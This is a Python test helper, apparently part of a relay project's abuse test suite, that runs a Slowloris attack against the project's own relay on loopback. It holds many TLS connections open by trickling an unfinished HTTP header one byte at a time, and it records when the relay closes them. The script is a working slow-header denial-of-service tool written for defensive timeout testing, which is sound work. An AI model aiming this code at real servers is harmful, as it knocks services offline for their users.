#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Slowloris against keyway-relay, for test_relay_abuse.sh.

usage: slowloris.py HOST:PORT CAFILE N INTERVAL_S DURATION_S
       slowloris.py pings HOST:PORT CAFILE INTERVAL_S DURATION_S

Opens N TLS connections, then trickles an HTTP request head that never
ends, one byte per connection every INTERVAL_S seconds, for at most
DURATION_S seconds. Prints "opened K" once the connections are up (K may be
lower than N when the relay refused some), then one line per connection the
relay closed, and at the end a summary:
  "summary opened=K closed=C first=S last=S" (seconds since each
connection's own open; -1 when none closed). Loopback only.
"""
import select
import socket
import ssl
import sys
import time


def pings():
    """pings HOST:PORT CAFILE INTERVAL_S DURATION_S: one connection sends a
    complete GET /ping every INTERVAL_S seconds; prints "closed after S s"
    when the relay closes it, or "open after S s"."""
    addr, ca, interval, duration = sys.argv[2:6]
    host, port = addr.rsplit(":", 1)
    ctx = ssl.create_default_context(cafile=ca)
    s = ctx.wrap_socket(socket.create_connection((host, int(port)), timeout=5),
                        server_hostname=host)
    t0 = time.monotonic()
    req = b"GET /ping HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n"
    while time.monotonic() - t0 < float(duration):
        try:
            s.sendall(req)
            s.settimeout(float(interval))
            deadline = time.monotonic() + float(interval)
            while time.monotonic() < deadline:
                try:
                    data = s.recv(4096)
                except socket.timeout:
                    break
                if not data:
                    raise OSError("closed")
        except (OSError, ssl.SSLError):
            print("closed after %.1f s" % (time.monotonic() - t0), flush=True)
            return
    print("open after %.1f s" % (time.monotonic() - t0), flush=True)


def main():
    if sys.argv[1] == "pings":
        pings()
        return
    addr, ca, n, interval, duration = sys.argv[1:6]
    host, port = addr.rsplit(":", 1)
    n, interval, duration = int(n), float(interval), float(duration)
    ctx = ssl.create_default_context(cafile=ca)
    head = b"GET /ping HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Pad: "
    conns = []  # [sock, opened_at, bytes_sent]
    for _ in range(n):
        try:
            raw = socket.create_connection((host, int(port)), timeout=5)
            s = ctx.wrap_socket(raw, server_hostname=host)
            s.setblocking(False)
            s.send(head[:1])
            conns.append([s, time.monotonic(), 1])
        except (OSError, ssl.SSLError):
            pass  # refused at accept: not opened
    print("opened %d" % len(conns), flush=True)
    closed = []
    t_end = time.monotonic() + duration
    next_byte = time.monotonic() + interval
    while conns and time.monotonic() < t_end:
        socks = [c[0] for c in conns]
        timeout = max(0.0, min(next_byte, t_end) - time.monotonic())
        r, _, _ = select.select(socks, [], [], timeout)
        now = time.monotonic()
        for s in r:
            c = next(c for c in conns if c[0] is s)
            try:
                data = s.recv(4096)
            except ssl.SSLWantReadError:
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                closed.append(now - c[1])
                print("closed after %.1f s" % (now - c[1]), flush=True)
                conns.remove(c)
                s.close()
        if now >= next_byte:
            next_byte = now + interval
            for c in list(conns):
                b = head[c[2] % len(head):][:1] if c[2] < len(head) else b"a"
                try:
                    c[0].send(b)
                    c[2] += 1
                except (OSError, ssl.SSLError):
                    pass  # seen as closed by the next read
    for c in conns:
        c[0].close()
    print("summary opened=%d closed=%d first=%.1f last=%.1f" % (
        len(conns) + len(closed), len(closed),
        min(closed) if closed else -1, max(closed) if closed else -1),
        flush=True)


if __name__ == "__main__":
    main()
